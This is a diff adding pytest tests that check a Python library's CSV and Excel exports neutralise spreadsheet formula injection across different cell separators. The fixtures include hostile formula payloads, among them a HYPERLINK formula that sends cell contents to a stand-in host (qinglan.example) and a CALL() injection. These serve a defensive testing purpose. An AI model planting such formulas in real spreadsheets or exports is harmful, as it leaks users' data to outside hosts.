@@ -2,13 +2,17 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from pathlib import Path
 
 import pandas as pd
 import pytest
 
 import xclib as xc
+from xclib import downloads, reader
 from xclib.errors import XclibError
+from xclib.exports import safe_cell
 
 XICHENG = "cn-110102-plan-2024"
 
@@ -43,6 +47,27 @@ def test_a_formula_of_a_report_is_text(tmp_path: Path) -> None:
     path = xc.export(pd.DataFrame({"label": ['=HYPERLINK("https://evil.example","x")']}), tmp_path / "x.xlsx")
     cell = load_workbook(path)["figures"]["A2"]
     assert cell.data_type == "s"
+
+
+FORMULA = '=HYPERLINK("http://qinglan.example/?"&A1)'
+
+
+@pytest.mark.parametrize("start", ["", "浓度;", "浓度; ", "浓度\t", "浓度\n", '浓度;"', "浓度|", "浓度;-3.1;"])
+@pytest.mark.parametrize("run", [FORMULA, "+1+1", "-1+CALL()", "@SUM(A1)", "＝1+1"])
+@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
+def test_text_stays_text_whatever_separates_cells(start: str, run: str, separator: str) -> None:
+    """A CSV file is opened with the separator of the reader's locale, too."""
+    body = downloads.to_csv(["label", "value"], [[f"{start}{run};x", -3.1]]).decode("utf-8-sig")
+    raw = reader.to_csv("figures", [{"label": f"{start}{run};x", "number": "-3.1", "suffix": f"{start}{run}"}])
+    for text in (body, raw if run != "+1+1" else body):
+        cells = [cell.strip(' "') for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]
+        assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "＝") and cell not in ("-3.1", "-")] == []
+
+
+@pytest.mark.parametrize("cell", ["-3.4%", "工业;-3.4%", "浓度；=", "a;b", "-inf", "=", "5左右;-6"])
+def test_numbers_and_words_keep_their_form(cell: str) -> None:
+    assert safe_cell(cell) == cell
+    assert safe_cell(safe_cell(f"x;{FORMULA}")) == safe_cell(f"x;{FORMULA}"), "once is enough"
 
 
 @pytest.mark.parametrize(
